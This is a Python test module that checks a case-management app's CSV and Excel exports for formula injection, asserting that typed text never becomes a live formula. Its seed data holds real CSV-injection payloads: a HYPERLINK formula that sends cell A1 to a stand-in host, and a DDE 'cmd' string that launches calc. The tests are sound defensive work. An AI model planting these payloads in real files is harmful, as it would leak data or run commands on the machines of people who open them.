"""Every CSV and workbook casebook writes shows typed text as text: no cell is ever a formula."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import sqlalchemy as sa
from flask.testing import FlaskClient, FlaskCliRunner
from openpyxl import load_workbook
from sqlalchemy.engine import Engine

from events.db import writing
from events.quarters import Quarter
from events.tables import schemes
from projections.archive import SCHEDULED, generate
from projections.spreadsheet import FORMULA_STARTS, spreadsheet_safe
from tests.helpers import event, import_jsonl, log, referral, void
from tests.test_casebook.conftest import SignedIn

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://x/?"&A1,"Click")'
#: Every module that writes CSV or a workbook; each is read back below.
WRITERS = {"casebook/services/export_rows.py", "casebook/web/pages/drilldown.py",
           "projections/presentation/render.py", "projections/presentation/workbook.py"}
_WRITING = re.compile(r"csv\.(writer|DictWriter)\(|^\s*(from|import) openpyxl", re.MULTILINE)


def seed(engine: Engine) -> int:
    """Referrals, an incident and a void whose text is a formula; a stored 2024/25 Q1 summary."""
    [first, *_] = log(
        engine,
        *[referral(scheme="mediation", occurred_at="2024-05-02", category=FORMULA)
          for _ in range(6)],
        *[referral(scheme="mediation", occurred_at="2024-05-03", category="+neighbour")
          for _ in range(7)],
        event("incident.reported", "asb-enforcement", "2024-05-04", category=FORMULA,
              location="@SUM(A1:A9)"),
    )
    log(engine, void(first, reason="-2+3+cmd|' /C calc'!A0"))
    report = import_jsonl(engine, [{**event("incident.reported", "asb-enforcement",
                                            "2024-05-05", category="flytipping",
                                            location="Park Lane"),
                                    "recorded_by": "=1+1"}])
    assert not report.errors, report.errors
    stored = generate(engine, Quarter(2024, 1), SCHEDULED, only_if_missing=True)
    assert stored is not None
    return stored.id


def assert_csv_is_text(body: str, *texts: str) -> None:
    """No cell starts a formula, and each of `texts` is a cell, made safe."""
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not live, live[:5]
    for text in texts or (FORMULA,):
        assert spreadsheet_safe(text) in cells, f"{text} is not there"


def assert_workbook_is_text(data: bytes) -> None:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, formulas[:5]
    assert any(cell.value == FORMULA and cell.data_type == "s" for cell in cells)


def test_every_csv_and_workbook_writer_is_one_this_file_reads_back() -> None:
    found = {str(path.relative_to(ROOT)) for package in ("casebook", "projections", "events")
             for path in (ROOT / package).rglob("*.py") if _WRITING.search(path.read_text())}
    assert found == WRITERS


def test_the_event_log_csv_shows_typed_text_as_text(
    client: FlaskClient, signed_in: SignedIn, engine: Engine
) -> None:
    seed(engine)
    signed_in(client, "officer")
    response = client.get("/events/events.csv")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert_csv_is_text(body, "=1+1", "-2+3+cmd|' /C calc'!A0")
    # The category is in the data column, whose JSON starts with "{".
    assert any(json.loads(row[-1]).get("category") == FORMULA
               for row in list(csv.reader(io.StringIO(body)))[1:])


def test_a_figures_drill_down_csv_shows_typed_text_as_text(
    client: FlaskClient, signed_in: SignedIn, engine: Engine
) -> None:
    seed(engine)
    signed_in(client, "officer")
    response = client.get("/dashboard/figures/enforcement.reports.csv?year=2024/25&quarter=Q1")
    assert response.status_code == 200
    assert_csv_is_text(response.get_data(as_text=True), "=1+1")


def test_summary_downloads_show_typed_text_as_text(
    client: FlaskClient, signed_in: SignedIn, engine: Engine
) -> None:
    summary_id = seed(engine)
    signed_in(client, "officer")
    for variant in ("internal", "published"):
        csv_body = client.get(f"/summaries/{summary_id}/{variant}.csv").get_data(as_text=True)
        assert_csv_is_text(csv_body, FORMULA, "+neighbour")
        assert_workbook_is_text(client.get(f"/summaries/{summary_id}/{variant}.xlsx").data)


def test_the_summary_commands_write_typed_text_as_text(
    engine: Engine, runner: FlaskCliRunner, tmp_path: Path
) -> None:
    summary_id = str(seed(engine))
    for published in ([], ["--published"]):
        shown = runner.invoke(args=["casebook", "summaries", "show", summary_id,
                                    "--format", "csv", *published])
        assert shown.exit_code == 0, shown.output
        assert_csv_is_text(shown.stdout)
        path = tmp_path / f"summary{len(published)}.xlsx"
        written = runner.invoke(args=["casebook", "summaries", "show", summary_id, "--format",
                                      "xlsx", "--output", str(path), *published])
        assert written.exit_code == 0, written.output
        assert_workbook_is_text(path.read_bytes())
    live = runner.invoke(args=["casebook", "summary", "--year", "2024/25", "--quarter", "Q1",
                               "--format", "csv"])
    assert live.exit_code == 0, live.output
    assert_csv_is_text(live.stdout)


def test_the_names_and_labels_beside_the_ids_in_a_summary_csv_are_text_too(
    client: FlaskClient, signed_in: SignedIn, engine: Engine
) -> None:
    """A scheme's name is typed by an administrator: it is a cell of every row of that scheme
    and a part of the notes of a partner's edition, and never a formula in either."""
    summary_id = seed(engine)
    with writing(engine) as connection:
        connection.execute(sa.update(schemes).where(schemes.c.scheme_id == "mediation")
                           .values(name=FORMULA))
    signed_in(client, "partner", schemes=("davss",))
    body = client.get(f"/summaries/{summary_id}/internal.csv").get_data(as_text=True)
    assert_csv_is_text(body, FORMULA)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert {row["scheme_name"] for row in rows if row["scheme"] == "mediation"} == {
        spreadsheet_safe(FORMULA)}
    assert any(FORMULA in row["note"] for row in rows if row["figure"] == "note")
    book = load_workbook(io.BytesIO(client.get(f"/summaries/{summary_id}/internal.xlsx").data))
    assert not [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
